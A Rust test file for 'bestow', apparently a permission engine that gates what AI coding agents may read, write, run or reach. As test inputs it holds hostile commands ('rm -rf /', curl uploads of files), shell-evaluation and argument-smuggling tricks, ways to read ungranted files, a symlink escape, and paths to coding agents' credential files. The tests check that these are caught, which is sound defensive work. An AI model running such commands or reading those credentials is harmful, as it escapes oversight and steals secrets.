//! Tests of `bestow check`, `bestow explain` and `bestow check-config`.

use std::{
    fs::{self, Permissions},
    os::unix::fs::PermissionsExt,
    process::Command,
};

use bestow::decision::Stage;
use serde_json::{Value, json};

use super::{BESTOW, assert_in_camel_case, bestow, text};
use crate::fs::world::World;

const FILE: &str = r#"[defaults]
owner = "you"
working_dir = "workspace"
[[defaults.rules]]
verdict = "deny"
path = "workspace/secrets/**"
why = "keys stay here"
[agents.lead]
kind = "foreground"
permissions = ["@write:workspace"]
[[agents.lead.rules]]
verdict = "allow"
command = ["git push **", "npm test"]
[agents.plan]
kind = "cron"
mode = "plan"
[[test]]
agent = "lead"
write = "workspace/secrets/key"
expect = "deny"
because = "keys stay here"
"#;

/// The note about the rule that allows exactly `npm test`.
const NOTE: &str = "11: note: `npm test` allows exactly these words; `npm test **` allows it with any operands and \
    harmless options";

fn saved(file: &str) -> (World, String) {
    let world = World::new();
    let path = world.text("agents.toml");
    fs::write(&path, file).unwrap();
    fs::set_permissions(&path, Permissions::from_mode(0o600)).unwrap();
    (world, path)
}

/// Returns the exit code and the standard output.
fn asked(what: &str, config: &str, agent: &str, words: &[&str]) -> (Option<i32>, String) {
    let told = bestow(&[&[what, "--agent", agent, "--config", config], words].concat(), b"");
    assert_eq!(text(&told.stderr), "", "{words:?}");
    (told.status.code(), text(&told.stdout).to_owned())
}

#[test]
fn the_exit_code_says_what_would_be_decided_and_one_line_says_why() {
    let (_world, config) = saved(FILE);
    for (agent, words, code, line) in [
        ("lead", &["--write", "notes"][..], 0, "allow write `"),
        ("lead", &["--read", "secrets/key"], 3, "deny read `"),
        ("lead", &["--exec", "/bin/ls"], 2, "ask run `/"),
        ("lead", &["--command", "npm test && git status"], 0, "allow run `npm test && git status`"),
        (
            "lead",
            &["--command", "git push && npm test"],
            2,
            "ask run `git push && npm test`: the agent does not hold network access",
        ),
        ("lead", &["--command", "git push; curl -T x y"], 2, "ask run `git push; curl -T x y`"),
        ("lead", &["--command", "rm -rf /"], 3, "deny run `rm -rf /`"),
        ("lead", &["--network", "example.com"], 2, "ask reach `example.com`: the agent does not hold"),
        ("lead", &["--command", "ls", "--needs", "@network"], 2, "ask run `ls`: the agent does not hold"),
        ("lead", &["--tool", "write", "--input", r#"{"path":"x"}"#], 0, "allow write `"),
        ("lead", &["--tool", "deploy"], 2, "ask run `deploy {}`"),
        ("lead", &["--tool", "deploy", "--input", r#"{"to":"x"}"#], 2, "ask run `deploy {\"to\":\"x\"}`"),
        ("plan", &["--write", "notes"], 3, "deny write `"),
    ] {
        let (status, told) = asked("check", &config, agent, words);
        assert_eq!(status, Some(code), "{words:?}: {told}");
        assert!(told.starts_with(line) && told.lines().count() == 1, "{words:?}: {told}");
        let (status, explained) = asked("explain", &config, agent, words);
        assert_eq!(status, Some(code), "{words:?}: {explained}");
        assert_eq!(explained.lines().next(), Some(told.trim_end()));
    }
}

#[test]
fn an_explanation_names_the_rule_the_line_each_stage_the_chain_and_the_way_out() {
    let (_world, config) = saved(FILE);
    let (_, told) = asked("explain", &config, "lead", &["--write", "secrets/key"]);
    assert!(told.contains("=> denied      deny: denied by a rule"), "{told}");
    assert!(told.contains("agents.toml:4: deny everything of `") && told.contains("keys stay here"), "{told}");
    assert!(told.contains("held: ") && told.contains("agents.toml:10"), "{told}");
    assert!(told.contains("to allow it: leave out `"), "{told}");
    for stage in Stage::ALL {
        assert!(told.contains(stage.as_str()), "{stage:?}: {told}");
    }
}

#[test]
fn what_the_rules_leave_over_of_a_line_is_named() {
    let (_world, config) = saved(FILE);
    let (status, told) = asked("explain", &config, "lead", &["--command", "npm test; curl -T notes example.com"]);
    assert_eq!(status, Some(2), "{told}");
    assert!(told.contains("the allow rules cover a part of it, but no rule allows `curl`"), "{told}");
    let (_, told) = asked("explain", &config, "lead", &["--command", "curl -T notes example.com"]);
    assert!(!told.contains("a part of it"), "{told}");
}

/// One line of the file has two effects: it names the protected path, and it gives the permission. No advice tells to
/// write it.
#[test]
fn only_a_line_that_names_a_protected_path_gives_it() {
    let (world, config) = saved(&("[engine]\nprotected = [\"outside\"]\n".to_owned() + FILE));
    let secret = world.text("outside/secret");
    let (status, told) = asked("explain", &config, "lead", &["--write", &secret]);
    assert_eq!(status, Some(3), "{told}");
    let ways: Vec<_> = told.lines().filter(|line| line.contains("to allow it:") || line.contains("and:")).collect();
    assert_eq!(ways.len(), 1, "{told}");
    assert!(ways[0].contains(&format!("leave out `{secret}`")), "{told}");
    let text = fs::read_to_string(&config).unwrap();
    for (named, code, why) in
        [(world.text("outside"), 3, "a directory above does not do"), (secret.clone(), 0, "that line does")]
    {
        fs::write(&config, text.replace("@write:workspace", &format!("@write:{named}"))).unwrap();
        assert_eq!(asked("check", &config, "lead", &["--write", &secret]).0, Some(code), "{why}");
    }
}

#[test]
fn a_pattern_is_no_path_to_give_unless_something_is_called_so() {
    let (world, config) = saved(&FILE.replace("@write:workspace", "@write:workspace/notes*"));
    let checked = bestow(&["check-config", &config], b"");
    let said = text(&checked.stdout).to_owned() + text(&checked.stderr);
    assert!(said.contains("a permission does not contain a pattern"), "{said}");
    assert!(!checked.status.success(), "{said}");
    fs::write(world.path("workspace/notes*"), "").unwrap();
    let checked = bestow(&["check-config", &config], b"");
    let said = text(&checked.stdout).to_owned() + text(&checked.stderr);
    assert!(!said.contains("does not contain a pattern"), "{said}");
}

/// A shell would have expanded the tilde. In quotes, or from a program, it is only a name.
#[test]
fn a_tilde_is_no_directory_and_a_url_no_host() {
    let (_world, config) = saved(FILE);
    for words in [&["--read", "~/x"][..], &["--write", "~"], &["--exec", "~root/x"]] {
        let (status, told) = asked("check", &config, "lead", words);
        assert_eq!(status, Some(3), "{words:?}: {told}");
        assert!(told.contains("`~` is not expanded here: write the full path"), "{told}");
    }
    let input = ["--tool", "write", "--input", r#"{"path":"~/x"}"#];
    assert_eq!(asked("check", &config, "lead", &input).0, Some(3));
    assert_eq!(asked("check", &config, "lead", &["--write", "./~x"]).0, Some(0), "what is called so");
    for url in ["https://example.com/x?y", "http://you:secret@example.com", "ws://example.com#x"] {
        let told = bestow(&["check", "--config", &config, "--agent", "lead", "--network", url], b"");
        let said = text(&told.stderr);
        assert_eq!(told.status.code(), Some(64), "{url}: {said}");
        assert!(said.contains("`--network example.com`") && !said.contains("secret"), "{said}");
    }
    let (status, told) = asked("check", &config, "lead", &["--network", "example.com/x"]);
    assert_eq!(status, Some(3), "{told}");
    assert!(told.contains("a URL is not a host: name the host `example.com`"), "{told}");
}

#[test]
fn the_ways_out_read_as_what_has_to_be_done() {
    let (_world, config) = saved(FILE);
    for (words, ways) in [
        (
            &["--network", "example.com"][..],
            "to allow it: get network access: request it with `request_permission`, receive it",
        ),
        (&["--command", "rm -rf /"], "to allow it: let a person enable exactly this input for one use\n"),
        (
            &["--command", "node x"],
            "to allow it: get the approval of a person, or write an `allow` rule in agents.toml",
        ),
    ] {
        let (_, told) = asked("explain", &config, "lead", words);
        assert!(told.contains(ways), "{told}");
        assert!(!words.contains(&"rm -rf /") || !told.contains("        and:"), "{told}");
    }
}

#[test]
fn a_program_reads_one_object() {
    let (_world, config) = saved(FILE);
    let (status, told) = asked("check", &config, "lead", &["--read", "secrets/key", "--json"]);
    let decision: Value = serde_json::from_str(&told).unwrap();
    assert_eq!((status, &decision["decision"]), (Some(3), &"deny".into()));
    assert!(decision["decisionSource"].is_string() && decision.get("id").is_none(), "{told}");
    assert_in_camel_case(&decision);
    let (_, told) = asked("explain", &config, "lead", &["--json", "--command", "npm test"]);
    let explanation: Value = serde_json::from_str(&told).unwrap();
    assert_in_camel_case(&explanation);
    assert_eq!(explanation["decidedBy"], "allow_rule");
    assert_eq!(explanation["walk"].as_array().unwrap().len(), 9);
    assert_eq!(explanation["decision"]["ruleRefs"][0]["rule"]["place"]["line"], 11);
}

#[test]
fn nothing_is_touched_and_no_state_is_left_behind() {
    let (world, config) = saved(FILE);
    let entries = || fs::read_dir(world.text("")).unwrap().map(|entry| entry.unwrap().file_name()).collect::<Vec<_>>();
    let before = entries();
    asked("check", &config, "lead", &["--write", "new"]);
    assert_eq!(entries(), before);
    assert!(!world.exists("workspace/new"));
}

#[test]
fn a_good_file_is_counted_and_a_wrong_one_told_whole() {
    let (_world, config) = saved(FILE);
    let told = bestow(&["check-config", &config], b"");
    assert_eq!(told.status.code(), Some(0), "{}", text(&told.stderr));
    assert_eq!(text(&told.stdout), format!("{config}:{NOTE}\n{config}: good: 2 agents, 2 rules, 1 test\n"));
    let (_world, config) = saved(&FILE.replace("mode = \"plan\"", "mode = \"pln\"").replace("command =", "comand ="));
    let told = bestow(&["check-config", &config], b"");
    assert_eq!((told.status.code(), text(&told.stdout)), (Some(1), ""));
    let complaints = text(&told.stderr);
    assert!(
        complaints.contains("did you mean `command`?") && complaints.contains("did you mean `plan`?"),
        "{complaints}"
    );
    let (_world, config) = saved(&FILE.replace("keys stay here\"\n[agents", "locked\"\n[agents"));
    let told = bestow(&["check-config", &config], b"");
    assert_eq!(told.status.code(), Some(1));
    assert!(text(&told.stderr).contains("this test fails: `lead` write"), "{}", text(&told.stderr));
}

#[test]
fn a_file_that_others_may_write_is_told_with_every_mistake_in_it() {
    let (_world, config) = saved(&FILE.replace("mode = \"plan\"", "mode = \"pln\""));
    fs::set_permissions(&config, Permissions::from_mode(0o666)).unwrap();
    let told = bestow(&["check-config", &config], b"");
    assert_eq!((told.status.code(), text(&told.stdout)), (Some(1), ""));
    let complaints = text(&told.stderr);
    assert!(complaints.contains("chmod go-w") && complaints.contains("did you mean `plan`?"), "{complaints}");
    // The mode is a mistake of its own.
    let (_world, config) = saved(FILE);
    fs::set_permissions(&config, Permissions::from_mode(0o666)).unwrap();
    let told = bestow(&["check-config", &config], b"");
    assert_eq!((told.status.code(), text(&told.stdout), text(&told.stderr).lines().count()), (Some(1), "", 1));
    // No other command reads the text.
    let told = bestow(&["check", "--agent", "lead", "--command", "ls", "--config", &config], b"");
    assert_eq!((told.status.code(), text(&told.stdout)), (Some(1), ""));
}

#[test]
fn a_program_reads_the_result_of_the_check_as_json() {
    let checked = |config: &str| {
        let told = bestow(&["check-config", config, "--json"], b"");
        assert_eq!(text(&told.stderr), "");
        (told.status.code(), serde_json::from_slice::<Value>(&told.stdout).unwrap())
    };
    let (_world, config) = saved(FILE);
    let good = json!({ "file": config, "valid": true, "agents": 2, "rules": 2, "tests": 1, "notes": [NOTE] });
    assert_eq!(checked(&config), (Some(0), good));
    let (_world, config) = saved(&FILE.replace("mode = \"plan\"", "mode = \"pln\""));
    fs::set_permissions(&config, Permissions::from_mode(0o666)).unwrap();
    let (code, told) = checked(&config);
    assert_eq!((code, &told["valid"], &told["furtherProblems"]), (Some(1), &json!(false), &json!(0)), "{told}");
    let [of_file, of_text] = told["problems"].as_array().unwrap().as_slice() else { panic!("{told}") };
    assert!(of_file["line"].is_null() && of_file["help"].as_str().unwrap().contains("chmod go-w"), "{told}");
    let line = FILE.lines().position(|line| line.starts_with("mode = \"plan\"")).unwrap() + 1;
    assert_eq!(of_text["line"], json!(line), "{told}");
    assert!(of_text["column"].is_u64() && of_text["message"].as_str().unwrap().contains("pln"), "{told}");
}

#[test]
fn the_tools_are_listed_as_json() {
    let (_world, config) = saved(&format!("{FILE}\n[[tools]]\nname = \"Bash\"\noperation = \"tool\"\n"));
    let told = bestow(&["tools", "--config", &config, "--json"], b"");
    assert_eq!(told.status.code(), Some(0), "{}", text(&told.stderr));
    let tools: Vec<Value> = text(&told.stdout).lines().map(|line| serde_json::from_str(line).unwrap()).collect();
    let declared =
        json!({ "inSession": false, "name": "Bash", "operation": "tool", "programs": null, "replaced": false });
    assert_eq!(tools[0], declared);
    let built_in = tools.iter().skip(1).find(|tool| tool["name"] == "Bash").unwrap();
    assert_eq!((&built_in["replaced"], &built_in["operation"]), (&json!(true), &json!("command.execute")));
    assert!(built_in["programs"].is_string() && built_in["command"].is_array(), "{built_in}");
    assert_eq!(tools.len(), text(&bestow(&["tools", "--config", &config], b"").stdout).lines().count());
}

#[test]
fn the_file_is_the_one_here_unless_one_is_named() {
    let (world, _) = saved(FILE);
    for words in [&["check-config"][..], &["check", "--agent", "lead", "--command", "ls"]] {
        let told = Command::new(BESTOW).args(words).current_dir(world.text("")).output().unwrap();
        assert_eq!(told.status.code(), Some(0), "{}", text(&told.stderr));
    }
}

#[test]
fn what_is_no_answer_is_an_error_and_what_makes_no_sense_is_usage() {
    let (_world, config) = saved(FILE);
    let (_other, failing) = saved(&FILE.replace("expect = \"deny\"", "expect = \"ask\""));
    let many: Vec<_> = (0..33).flat_map(|number| ["--needs".to_owned(), format!("@write:/etc/{number}")]).collect();
    let many: Vec<_> = many.iter().map(String::as_str).collect();
    let too_many = [&["check", "--agent", "lead", "--config", &config, "--command", "ls"][..], &many].concat();
    for (words, code) in [
        (&too_many[..], 64),
        (&["check", "--agent", "nobody", "--config", &config, "--command", "ls"][..], 1),
        (&["check", "--agent", "lead", "--config", "/no/such/file", "--command", "ls"], 1),
        (&["check", "--agent", "lead", "--config", &failing, "--command", "ls"], 1),
        (&["check-config", "/no/such/file"], 1),
        (&["check-config", &config, "more"], 64),
        (&["check", "--config", &config, "--command", "ls"], 64),
        (&["check", "--agent", "lead", "--config", &config], 64),
        (&["check", "--agent", "lead", "--command", "ls", "--read", "x"], 64),
        (&["check", "--agent", "lead", "--command", "ls", "--needs", "@nonsense"], 64),
        (&["check", "--agent", "lead", "--tool", "x", "--input", "{"], 64),
        (&["check", "--agent", "lead", "--command", "ls", "--input", "{}"], 64),
        (&["explain", "--agent", "lead", "ls"], 64),
        (&["explain", "--agent"], 64),
    ] {
        let told = bestow(words, b"");
        assert_eq!(told.status.code(), Some(code), "{words:?}");
        assert!(told.stdout.is_empty() && !told.stderr.is_empty(), "{words:?}");
    }
}

const GRANTED: &str = r#"[engine]
reads = "granted"
[agents.lead]
kind = "foreground"
owner = "you"
working_dir = "workspace"
permissions = ["@write:workspace"]
"#;

/// Each line reads a file outside of what the agent may read, in another form.
#[test]
fn no_form_of_a_reader_reads_a_file_that_is_not_granted() {
    let (world, config) = saved(GRANTED);
    fs::create_dir_all(world.text("outside")).unwrap();
    fs::write(world.text("outside/f.txt"), "secret\n").unwrap();
    let file = world.text("outside/f.txt");
    for form in [
        "cat F",
        "cat -n F",
        "cat -b F",
        "tail -f F",
        "wc -l F",
        "od -c F",
        "sha256sum -b F",
        "uniq -c F",
        "pr -n F",
        "look h F",
        "gzip -c F",
        "zstd -c F",
        "xzcat -f F",
        "iconv -f utf8 F",
        "xargs -a F echo",
        "csvcut -c 1 F",
        "python3 -I -m json.tool F",
        "xmllint F",
        "unzip -p F",
        "cmp -l F notes",
        "less -N F",
        "cat < F",
        "grep -fF x",
        "grep -nfF x",
        "sort --files0-from=F",
        "timeout 5 cat -n F",
        "cd ../outside && cat -n f.txt",
        "echo ../outside/*",
        "jq . F",
        "diff -u F notes",
        "git diff --no-index F notes",
        "test -f F",
        "date -r F",
        "env LC_ALL=C nl F",
    ] {
        let line = form.replace('F', &file);
        let (code, told) = asked("check", &config, "lead", &["--command", &line]);
        assert_eq!(code, Some(2), "{line}: {told}");
    }
    for line in ["cat -n notes", "grep -rn /etc/passwd .", "cut -d/ -f1 notes", "echo /etc/passwd", "ls -la", "tr / _"]
    {
        let (code, told) = asked("check", &config, "lead", &["--command", line]);
        assert_eq!(code, Some(0), "{line}: {told}");
    }
}

/// A rule about one program denies no other one, also where the words of a line may be files.
#[test]
fn a_program_of_the_system_runs_by_its_path_as_by_its_name() {
    let rule = "\n[[agents.lead.rules]]\nverdict = \"deny\"\ncommand = \"curl **\"\n";
    let (world, config) = saved(&format!("{GRANTED}{rule}"));
    fs::create_dir_all(world.text("outside")).unwrap();
    fs::write(world.text("outside/f.txt"), "secret\n").unwrap();
    let file = world.text("outside/f.txt");
    for (line, code) in [
        ("/bin/sh -c true", 0),
        ("sh -c 'exec /bin/sh -c true'", 0),
        ("/bin/sh -c 'eval \"$2\"' x y 'true'", 0),
        ("/bin/cat F", 2),
        ("/bin/sh -c 'cat \"$1\"' x F", 2),
        ("/bin/sh -c 'curl x.example'", 3),
        ("/usr/bin/curl x.example", 3),
    ] {
        let (answered, told) = asked("check", &config, "lead", &["--command", &line.replace('F', &file)]);
        assert_eq!(answered, Some(code), "{line}: {told}");
    }
}

#[test]
fn a_shell_that_is_not_known_or_does_not_exist_is_refused_or_proves_nothing() {
    let (_world, config) = saved(FILE);
    let check = |shell: &str, line: &str| {
        let words = ["check", "--agent", "lead", "--config", &config, "--shell", shell, "--command", line];
        let done = bestow(&words, b"");
        (done.status.code(), text(&done.stderr).to_owned())
    };
    assert_eq!(check("zsh", "ls -la").0, Some(0));
    assert_eq!(check("zsh", "ls *(e:'touch x':)").0, Some(2));
    assert_eq!(check("fish", "ls -la").0, Some(2));
    for (shell, why) in [("no-shell", "no shell is known as"), ("/no/zsh", "does not exist")] {
        let (code, told) = check(shell, "ls");
        assert!(code != Some(0) && told.contains(why), "{shell}: {code:?} {told}");
    }
}

/// zsh splits `$=x` into words, so that it writes a file; bash sorts a file with an odd name.
#[test]
fn the_shell_of_a_declared_tool_decides_what_its_line_means() {
    let tool = |name: &str, shell: &str| {
        format!("[[tools]]\nname = \"{name}\"\noperation = \"command.execute\"\ncommand = \"line\"\n{shell}\n")
    };
    let shells = [("one_of_three", "", 2), ("in_bash", "shell = \"bash\"", 0), ("in_zsh", "shell = \"zsh\"", 2)];
    let tools: String = shells.iter().map(|(name, shell, _)| tool(name, shell)).collect();
    let (_world, config) = saved(&format!("{tools}{FILE}"));
    let input = json!({ "line": "x='-o marker a.txt'; sort $=x" }).to_string();
    for (name, _, code) in shells {
        let (answered, told) = asked("check", &config, "lead", &["--tool", name, "--input", &input]);
        assert_eq!(answered, Some(code), "{name}: {told}");
    }
    let (world, wrong) = saved(&format!("{}{FILE}", tool("odd", "shell = \"bsh\"")));
    let told = bestow(&["check-config", &wrong], b"");
    assert!(text(&told.stderr).contains("`bash`") || text(&told.stdout).contains("`bash`"), "{told:?}");
    drop(world);
    let (_world, file) =
        saved(&tool("odd", "shell = \"zsh\"").replace("command.execute", "network").replace("command =", "host ="));
    let told = bestow(&["check-config", &file], b"");
    let all = format!("{}{}", text(&told.stderr), text(&told.stdout));
    assert!(all.contains("the operation of the tool `odd` has no `shell`"), "{all}");
}

#[test]
fn the_check_of_a_file_says_what_a_bare_program_means() {
    let (_world, config) = saved(
        &FILE.replace("\"npm test\"]", "\"npm test\"]\n[[agents.lead.rules]]\nverdict = \"deny\"\ncommand = \"rm\""),
    );
    let done = bestow(&["check-config", &config], b"");
    assert!(text(&done.stdout).contains("`rm **`"), "{}", text(&done.stdout));
    let (code, told) = asked("check", &config, "lead", &["--command", "rm -rf docs"]);
    assert_eq!(code, Some(3), "{told}");
}

/// A program that reads its directory without a word that names it asks like one that names a file in it.
#[test]
fn a_line_that_reads_its_directory_is_no_looser_than_a_read_in_it() {
    let (world, config) = saved(
        r#"[engine]
reads = "granted"
[defaults]
owner = "you"
working_dir = "workspace"
[agents.outside]
kind = "foreground"
permissions = ["@network"]
[agents.inside]
kind = "foreground"
permissions = ["@network", "@read:workspace"]
"#,
    );
    fs::create_dir_all(world.text("workspace")).unwrap();
    fs::write(world.text("workspace/x"), "x").unwrap();
    for line in [
        "cat ./x",
        "ls",
        "ls -R",
        "tree",
        "du -sh",
        "find",
        "fd x",
        "eza",
        "git log --stat",
        "git status",
        "terraform show",
        "ruff check",
        "cargo metadata --no-deps --offline",
        "go list ./...",
        "npm ls",
        "docker compose ps",
        "timeout 5 ls -R",
        "echo *",
    ] {
        let (code, told) = asked("check", &config, "outside", &["--command", line]);
        assert_eq!(code, Some(2), "{line}: {told}");
        let (code, told) = asked("check", &config, "inside", &["--command", line]);
        assert_eq!(code, Some(0), "{line}: {told}");
    }
    for line in ["pwd", "date", "git --version", "echo x", "ps aux"] {
        let (code, told) = asked("check", &config, "outside", &["--command", line]);
        assert_eq!(code, Some(0), "{line}: {told}");
    }
}

#[test]
fn a_policy_file_above_a_directory_that_an_agent_writes_is_read_from_there() {
    let (world, _) = saved(FILE);
    fs::create_dir_all(world.text("workspace/deep")).unwrap();
    let from = |directory: &str, config: &str| {
        let words = ["check", "--config", config, "--agent", "lead", "--command", "ls"];
        let done = Command::new(BESTOW).args(words).current_dir(world.text(directory)).output().unwrap();
        (done.status.code(), text(&done.stderr).to_owned())
    };
    for (directory, config) in
        [("workspace", "../agents.toml"), ("workspace/deep", "./.././../agents.toml"), (".", "agents.toml")]
    {
        assert_eq!(from(directory, config), (Some(0), String::new()), "{directory} {config}");
    }
    // The agent can make `workspace` a link to another directory.
    let (code, told) = from(".", "workspace/../agents.toml");
    assert!(code == Some(1) && told.contains("could give itself any permission"), "{told}");
}

/// The attack: an agent reads what its coding agent, or the hook of bestow, signs in with.
#[test]
fn no_agent_reads_the_credentials_of_a_coding_agent_or_of_bestow() {
    let (world, config) = saved(FILE);
    let home = world.text("home");
    fs::create_dir_all(format!("{home}/.claude")).unwrap();
    for file in [".claude/.credentials.json", ".bestow-my-own"] {
        fs::write(format!("{home}/{file}"), "secret").unwrap();
    }
    let decided = |action: [&str; 2]| {
        let words = ["check", "--config", &config, "--agent", "lead"];
        let done = Command::new(BESTOW).args(words).args(action).env("HOME", &home).output().unwrap();
        (done.status.code(), text(&done.stdout).to_owned())
    };
    let credentials = [
        ".claude/.credentials.json",
        ".codex/auth.json",
        ".gemini/oauth_creds.json",
        ".copilot/config.json",
        ".bestow-claude",
        ".bestow-my-own",
    ];
    for file in credentials.map(|file| format!("{home}/{file}")) {
        for action in [["--read", &*file], ["--write", &*file], ["--command", &*format!("cat {file}")]] {
            let (code, told) = decided(action);
            assert!(code == Some(3) && told.contains("protected"), "{action:?}: {told}");
        }
    }
    assert_eq!(decided(["--read", &format!("{home}/.claude/settings.json")]).0, Some(0));
    let listed = Command::new(BESTOW).arg("protected").env("HOME", &home).output().unwrap();
    for file in credentials {
        assert!(text(&listed.stdout).lines().any(|line| line == format!("{home}/{file}")), "{file}");
    }
}
